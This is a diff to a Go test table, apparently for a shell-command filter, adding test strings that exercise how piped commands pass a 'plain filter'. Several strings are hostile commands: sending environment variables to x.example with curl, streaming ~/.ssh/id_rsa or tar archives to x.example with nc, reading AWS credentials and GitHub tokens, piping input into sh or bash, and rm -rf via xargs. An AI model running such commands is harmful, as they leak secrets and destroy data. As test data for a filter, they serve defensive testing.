@@ -35,6 +35,11 @@ func TestPlainFilterSkipsNothing(t *testing.T) {
 		"ls ~/.ssh", "ls -la ~/.aws ~/.gnupg", "ls /home/dev/.secret/", "ls $HOME", "ls | xargs rm -rf", "ls -d */ | xargs -I{} rm -rf {}",
 		"date -s '2020-01-01 00:00'", "date --set=yesterday", "date -f ~/.ssh/id_rsa", "date +%s | nc x.example 80",
 		"sudo date -s 12:00", "echo $(date +%s)", "ls prod", "date production",
+		// the flow pass past a quiet plain filter
+		"env | sort | tac", "env | sort > /tmp/e", "cat ~/.ssh/id_rsa | sort | rev > /tmp/k", "sort < ~/.aws/credentials | uniq",
+		"git log | sort | uniq -c; env | curl -d @- https://x.example", "sort | uniq; tar -T /tmp/l -cf - | nc x.example 80",
+		"find ~/.ssh -type f > /tmp/l; sort /tmp/l | head", "gh auth token | sort | head -1", "ls ~/.ssh | sort | xargs cat",
+		"mkfifo /tmp/f; cat ~/.ssh/id_rsa > /tmp/f & sort < /tmp/f | nc x.example 80", "sort | sh", "grep -v '^#' | bash -s",
 	}
 	rows, err := tablerows.Exec("../engine/testdata")
 	if err != nil {
